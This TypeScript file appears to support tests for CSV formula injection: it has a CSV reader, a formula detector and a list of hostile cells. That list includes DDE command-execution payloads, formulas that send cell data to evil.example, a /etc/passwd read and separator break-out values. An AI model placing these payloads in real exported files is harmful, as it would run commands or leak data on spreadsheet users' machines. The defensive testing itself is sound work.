// What spreadsheets make of a CSV file, and cells that would like to be formulas.

/** The cells of a file as a program reads it that expects `separator` (RFC 4180, and leniently what is not). */
export function readCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const end = () => {
    rows.at(-1)?.push(cell);
    cell = '';
  };
  for (let at = 0; at < text.length; at++) {
    const sign = text[at] ?? '';
    if (quoted && sign === '"' && text[at + 1] === '"') cell += text[++at];
    else if (sign === '"' && (quoted || cell === '')) quoted = !quoted;
    else if (!quoted && sign === separator) end();
    else if (!quoted && /[\r\n]/.test(sign)) {
      if (sign === '\r' && text[at + 1] === '\n') at++;
      end();
      rows.push([]);
    } else cell += sign;
  }
  if (cell !== '') end();
  return rows.filter((row) => row.length > 0);
}

/**
 * Whether a spreadsheet may take a cell for a formula: after what it skips or drops (blanks, controls, invisible signs, a
 * quote that was left over) there is one of its signs, as it stands or in a form that is read alike.
 */
export function isFormula(cell: string): boolean {
  const seen = cell.normalize('NFKC').replace(/^[\s\p{C}\p{Z}"]+/u, '');
  return /^[=+\-@\u2212]/.test(seen) || /^[\t\r\n\0]/.test(cell);
}

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];
const FIRST = [
  '\t',
  '\r',
  '\n',
  '\0',
  '\r\n',
  ' ',
  '\u00a0',
  '\u3000',
  '\u2003',
  '\ufeff',
  '\u200b',
  '\v',
  '\f',
  '\u2028',
  '"',
  ' "',
];
const CALLS = [
  ...[
    '=1+1',
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
  ],
  ...[
    '=WEBSERVICE("http://evil.example/"&A1)',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '+cmd|" /C calc"!A0',
    '-2+3+cmd|" /C calc"!A0',
  ],
  ...[
    '=DDE("cmd";"/C calc";"a")',
    "='file:///etc/passwd'#$passwd.A1",
    '=1+1";=2+2',
    '-',
    '=',
    '@',
    '+49 170 1234567',
    '-1',
  ],
];
/** What looks harmless until another separator, quote or line end is read where we mean text. */
const BROKEN = [
  ...[
    'a;=1+1',
    'a,=1+1',
    'a\t=1+1',
    'a|=1+1',
    'a\n=1+1',
    'a\r=1+1',
    'a\r\n=1+1',
    'a";=1+1',
    'a";"=1+1',
    'a",=1+1',
    'a","=1+1',
  ],
  ...[
    'a"\n=1+1',
    '";=1+1',
    '"=1+1',
    '""=1+1',
    '","=1+1',
    ';=1+1',
    ',=1+1',
    '; =1+1',
    ';\u00a0=1+1',
    ';"" =1+1',
    'a;＝1+1',
  ],
  ...['a;;=1+1', 'a;\t=1+1', 'a\n\n@SUM(1)', 'a"\r\n"=1+1', "a;'=1+1", 'a;−1', 'a\n-1', 'a;+1', 'a;@A1', 'a|@A1'],
];

export const HOSTILE_CELLS: readonly string[] = [
  ...CALLS,
  ...SIGNS.map((sign) => `${sign}1+1`),
  ...FIRST.flatMap((first) => ['=1+1', '@A1', '－1', '＝1'].map((call) => first + call)),
  ...['\t', '\r', '\n', '\0'].map((first) => `${first}ann`),
  ...BROKEN,
];
